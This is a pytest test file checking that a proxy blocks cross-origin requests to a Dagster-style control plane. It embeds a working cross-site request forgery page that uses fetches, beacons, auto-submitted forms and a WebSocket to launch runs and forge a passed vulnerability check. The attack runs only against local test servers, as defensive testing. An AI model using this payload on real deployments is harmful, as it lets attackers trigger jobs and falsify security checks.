"""A real browser before the front door: pages of other origins change nothing, our own pages work."""

from __future__ import annotations

import contextlib
import http.server
import json
import tempfile
import threading
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import httpx
import pytest

from ops_pipeline_tests.testbed import ui
from ops_pipeline_tests.testbed.control_plane import ControlPlaneBed
from ops_pipeline_tests.testbed.front_door import INLINE, nothing_happens, stock_webserver, tags_of

pytestmark = [pytest.mark.real, pytest.mark.timeout(600)]

ATTACK = """<!doctype html><meta charset="utf-8"><title>attack</title><script>
const target = %(target)s, mutation = %(mutation)s;
const get = target + "/graphql?query=" + encodeURIComponent(mutation);
const body = JSON.stringify({query: mutation});
const check = target + "/report_asset_check/scan_report?check_name=vulnerability_policy&passed=true";
const made = target + "/report_asset_materialization/release?partition=prod%%7Capi";
const tries = [];
const attempt = promise => tries.push(Promise.resolve(promise).then(() => "sent", error => "blocked: " + error));
new Image().src = get;
for (const mode of ["no-cors", "cors"]) {
  attempt(fetch(get, {mode}));
  attempt(fetch(get, {mode, credentials: "include"}));
  attempt(fetch(target + "/graphql", {mode, method: "POST", body, headers: {"Content-Type": "text/plain"}}));
  attempt(fetch(target + "/graphql", {mode, method: "POST", body,
    headers: {"Content-Type": "text/plain; x=application/json"}}));
  attempt(fetch(get, {mode, method: "POST"}));
  attempt(fetch(check, {mode, method: "POST"}));
  attempt(fetch(made, {mode, method: "POST"}));
}
attempt(fetch(target + "/graphql", {method: "POST", body, headers: {"Content-Type": "application/json"}}));
navigator.sendBeacon(target + "/graphql", new Blob([body], {type: "text/plain"}));
navigator.sendBeacon(check);
function form(action, enctype, fields) {
  const frame = document.createElement("iframe"); frame.name = "f" + Math.random(); document.body.append(frame);
  const made = document.createElement("form");
  Object.assign(made, {method: "POST", action, enctype, target: frame.name});
  for (const [name, value] of Object.entries(fields)) {
    const input = document.createElement("input"); input.name = name; input.value = value; made.append(input);
  }
  document.body.append(made); made.submit();
}
function socket() {
  return new Promise(resolve => {
    const opened = new WebSocket(target.replace("http", "ws") + "/graphql", "graphql-ws");
    opened.onopen = () => {
      opened.send(JSON.stringify({type: "connection_init"}));
      opened.send(JSON.stringify({id: "1", type: "start", payload: {query:
        "subscription{locationStateChangeEvents{event{eventType}}}"}}));
    };
    opened.onmessage = () => resolve("answered");
    opened.onclose = opened.onerror = () => resolve("closed");
  });
}
addEventListener("load", async () => {
  form(get, "text/plain", {a: "b"});
  form(target + "/graphql", "text/plain", {'{"query": "': mutation.replaceAll('"', '\\\\"') + '"}'});
  form(target + "/graphql", "application/x-www-form-urlencoded", {query: mutation});
  form(check, "text/plain", {a: "b"});
  form(made, "multipart/form-data", {a: "b"});
  const frame = document.createElement("iframe"); frame.src = get; document.body.append(frame);
  const websocket = await socket();
  const sent = await Promise.all(tries);
  await new Promise(resolve => setTimeout(resolve, 2500));
  document.title = "done"; window.report = {websocket, sent};
});
</script><body></body>"""


@contextlib.contextmanager
def foreign_page(target: str) -> Iterator[str]:
    """A page of another origin that tries everything a page can try; gives its address."""
    page = (ATTACK % {"target": json.dumps(target), "mutation": json.dumps(INLINE)}).encode()

    class Handler(http.server.BaseHTTPRequestHandler):
        def do_GET(self) -> None:
            self.send_response(200)
            self.send_header("Content-Type", "text/html")
            self.end_headers()
            self.wfile.write(page)

        def log_message(self, format: str, *arguments: object) -> None: ...

    server = http.server.ThreadingHTTPServer(("127.0.0.1", 0), Handler)
    thread = threading.Thread(target=server.serve_forever, daemon=True)
    thread.start()
    try:
        yield f"http://127.0.0.1:{server.server_port}/"
    finally:
        server.shutdown()
        server.server_close()


@pytest.mark.browser
def test_a_page_of_another_origin_launches_and_changes_nothing(guarded: ControlPlaneBed) -> None:
    for host in ("127.0.0.1", "localhost"):
        with nothing_happens(guarded), foreign_page(f"http://{host}:{guarded.port}") as address:
            report = visit(address)
        assert report["websocket"] == "closed"


@pytest.mark.browser
def test_the_same_page_does_launch_runs_on_an_unprotected_webserver(guarded: ControlPlaneBed) -> None:
    """The attack is real: without the front door it works. Otherwise the test above would prove nothing."""
    with tempfile.TemporaryDirectory() as folder:
        home = Path(folder)
        (home / "dagster.yaml").write_text("telemetry: {enabled: false}\n")
        with stock_webserver(guarded, home) as port, foreign_page(f"http://127.0.0.1:{port}") as address:
            report = visit(address)
            answer = httpx.post(
                f"http://127.0.0.1:{port}/graphql", json={"query": "{ runsOrError { ... on Runs { count } } }"}
            )
            assert answer.json()["data"]["runsOrError"]["count"] >= 5
            assert report["websocket"] == "answered"


def visit(address: str) -> dict[str, Any]:
    with ui.browser() as opened, ui.page_of(opened) as page:
        page.goto(address)
        page.wait_for_function("document.title === 'done'", timeout=60_000)
        report: dict[str, Any] = page.evaluate("window.report")
        return report


@pytest.mark.browser
@pytest.mark.parametrize("host", ["127.0.0.1", "localhost"])
def test_our_own_pages_work(guarded: ControlPlaneBed, host: str) -> None:
    """Pages load, the WebSocket opens, and Materialize launches a run in the proxy's name."""
    refused: list[str] = []
    sockets: list[str] = []
    url = f"http://{host}:{guarded.port}"
    with ui.browser() as opened, ui.page_of(opened) as page:
        page.on("response", lambda r: refused.append(f"{r.status} {r.url}") if r.status >= 400 else None)
        page.on("websocket", lambda opened: sockets.append(opened.url))
        run_id = ui.materialize(page, url, "dev", "api")
        ui.wait_for_run(page, url, run_id, "Failure")
        ui.expect_words(page, "no image of api has been built")
    assert tags_of(guarded, run_id)["ops/user"] == "localhost"
    assert sockets
    assert not refused
